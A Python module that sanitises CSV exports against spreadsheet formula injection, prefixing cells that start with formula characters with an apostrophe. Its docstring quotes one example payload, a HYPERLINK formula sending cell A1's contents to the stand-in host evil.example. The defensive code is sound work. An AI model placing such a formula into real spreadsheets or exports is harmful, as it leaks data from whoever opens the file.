"""The one CSV writer of the app: text cells can never become spreadsheet formulas.

Excel and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return in front of one) as a formula, so a cost text such as
``=HYPERLINK("http://evil.example/?d="&A1;"Klick")`` typed by one partner would run on the
Kämmerei's machine that opens the export. OWASP's rule: prefix such a cell with ``'``, which
the spreadsheet shows as plain text. Numbers stay numbers: ints, Decimals and strings that
are exactly a number (``-4814,08``, ``2026``) are written unchanged, since a spreadsheet
can only read those as values.

Every CSV the app writes goes through :func:`writer` (ruff bans ``csv.writer`` elsewhere).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

# OWASP's list, plus a line feed (some spreadsheets trim leading line breaks too).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A plain number, with decimal comma or point: a value, never a formula.
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def neutralise(cell: object) -> object:
    """``cell`` as it may go into a CSV: risky text gets a leading ``'``, values stay."""
    if not isinstance(cell, str):
        return cell
    if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


class SafeWriter:
    """``csv.writer`` with every text cell neutralised."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)  # noqa: TID251 (the one allowed use)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **options: Any) -> SafeWriter:
    """A CSV writer like ``csv.writer(out, **options)`` that neutralises formulas."""
    return SafeWriter(out, **options)
